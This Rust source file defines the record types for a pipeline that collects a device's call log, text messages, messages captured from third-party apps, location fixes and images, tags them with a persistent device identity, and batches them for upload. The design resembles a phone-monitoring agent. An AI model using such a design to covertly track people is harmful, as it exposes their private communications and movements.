//! Record model shared across the pipeline
//!
//! Every source collector normalizes its rows into [`SourceRecord`]s; the
//! engine groups them into per-kind [`UploadBatch`]es for the uplink. All
//! timestamps are converted to UTC exactly once, inside the collector that
//! read the source-local representation.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// Monotonic row identifier of a watched source
pub type RowId = i64;

/// A named permission gating access to one data source
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Capability {
    /// Read the device call log
    CallLog,
    /// Read stored text messages
    Messages,
    /// Receive messages captured from third-party apps
    AppMessages,
    /// Read location fixes
    Location,
    /// Read captured images from media storage
    MediaImages,
}

impl Capability {
    /// All capabilities, in a fixed order (useful for config parsing)
    pub const ALL: [Capability; 5] = [
        Capability::CallLog,
        Capability::Messages,
        Capability::AppMessages,
        Capability::Location,
        Capability::MediaImages,
    ];

    /// Stable name used in configuration and diagnostics
    pub fn name(&self) -> &'static str {
        match self {
            Capability::CallLog => "call_log",
            Capability::Messages => "messages",
            Capability::AppMessages => "app_messages",
            Capability::Location => "location",
            Capability::MediaImages => "media_images",
        }
    }

    /// Parse a capability from its stable name
    pub fn parse(name: &str) -> Option<Capability> {
        Capability::ALL.iter().copied().find(|c| c.name() == name)
    }
}

impl std::fmt::Display for Capability {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Record kinds carried by the pipeline
///
/// Each kind maps to one logical uplink endpoint; batches are homogeneous in
/// kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RecordKind {
    Call,
    Message,
    AppMessage,
    LocationFix,
    ImageCapture,
}

impl RecordKind {
    /// Stable name used in diagnostics
    pub fn name(&self) -> &'static str {
        match self {
            RecordKind::Call => "call",
            RecordKind::Message => "message",
            RecordKind::AppMessage => "app_message",
            RecordKind::LocationFix => "location_fix",
            RecordKind::ImageCapture => "image_capture",
        }
    }
}

impl std::fmt::Display for RecordKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Direction of a call record
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CallDirection {
    Incoming,
    Outgoing,
}

/// Direction of a message record
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum MessageDirection {
    Received,
    Sent,
}

/// Kind-specific payload of a [`SourceRecord`]
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum RecordPayload {
    /// One entry from the call log
    Call {
        number: String,
        direction: CallDirection,
        duration_secs: u64,
    },
    /// One stored text message
    Message {
        address: String,
        body: String,
        direction: MessageDirection,
    },
    /// One message captured from a third-party app by an external collaborator
    AppMessage {
        app: String,
        body: String,
        direction: MessageDirection,
    },
    /// One location fix
    LocationFix { latitude: f64, longitude: f64 },
    /// One captured image, already downscaled and re-encoded as JPEG
    ImageCapture { jpeg_base64: String },
}

impl RecordPayload {
    /// The record kind this payload belongs to
    pub fn kind(&self) -> RecordKind {
        match self {
            RecordPayload::Call { .. } => RecordKind::Call,
            RecordPayload::Message { .. } => RecordKind::Message,
            RecordPayload::AppMessage { .. } => RecordKind::AppMessage,
            RecordPayload::LocationFix { .. } => RecordKind::LocationFix,
            RecordPayload::ImageCapture { .. } => RecordKind::ImageCapture,
        }
    }
}

/// Stable per-installation identifier
///
/// Generated once (random, high-entropy) and persisted; identical across the
/// lifetime of one installation. See `identity::IdentityManager`.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct DeviceIdentity(String);

impl DeviceIdentity {
    /// Wrap an existing identifier (loaded from the durable store)
    pub fn new(id: impl Into<String>) -> Self {
        Self(id.into())
    }

    /// Generate a fresh random identifier
    pub fn generate() -> Self {
        Self(uuid::Uuid::new_v4().to_string())
    }

    /// The identifier as a string slice
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for DeviceIdentity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// One normalized record extracted from a data source
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SourceRecord {
    /// Identity of the installation that produced the record
    pub device: DeviceIdentity,
    /// UTC capture time, normalized from the source-local representation
    pub captured_at: DateTime<Utc>,
    /// Kind-specific payload
    pub payload: RecordPayload,
}

impl SourceRecord {
    /// Create a record
    pub fn new(device: DeviceIdentity, captured_at: DateTime<Utc>, payload: RecordPayload) -> Self {
        Self {
            device,
            captured_at,
            payload,
        }
    }

    /// The record's kind (derived from the payload)
    pub fn kind(&self) -> RecordKind {
        self.payload.kind()
    }
}

/// An ordered, bounded sequence of records of one kind
///
/// Constructed fresh per sweep (or per watcher event) and discarded once the
/// uplink accepts or finally fails it.
#[derive(Debug, Clone, PartialEq)]
pub struct UploadBatch {
    /// Kind shared by every record in the batch
    pub kind: RecordKind,
    /// The records, newest first
    pub records: Vec<SourceRecord>,
}

impl UploadBatch {
    /// Create a batch; returns `None` if any record is of a different kind
    pub fn new(kind: RecordKind, records: Vec<SourceRecord>) -> Option<Self> {
        if records.iter().any(|r| r.kind() != kind) {
            return None;
        }
        Some(Self { kind, records })
    }

    /// Create a single-record batch (watcher path)
    pub fn single(record: SourceRecord) -> Self {
        Self {
            kind: record.kind(),
            records: vec![record],
        }
    }

    /// Number of records in the batch
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the batch is empty
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

/// Static description of the device, sent once at registration
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeviceProfile {
    /// Hardware model name
    pub model: String,
    /// Operating system identifier
    pub os_version: String,
}

/// A change notification from a watched source
///
/// Notices are untrusted hints: the host runtime may coalesce, drop, or
/// deliver them without payload. The watcher re-reads the source head on
/// every notice instead of interpreting fields here.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangeNotice {
    /// Name of the source that changed (diagnostics only)
    pub source: String,
}

impl ChangeNotice {
    /// Create a notice for the named source
    pub fn new(source: impl Into<String>) -> Self {
        Self {
            source: source.into(),
        }
    }
}

/// The newest row of a watched source at the moment of a head query
#[derive(Debug, Clone, PartialEq)]
pub struct HeadRecord {
    /// Monotonic identifier of the row
    pub row_id: RowId,
    /// The row, normalized
    pub record: SourceRecord,
}
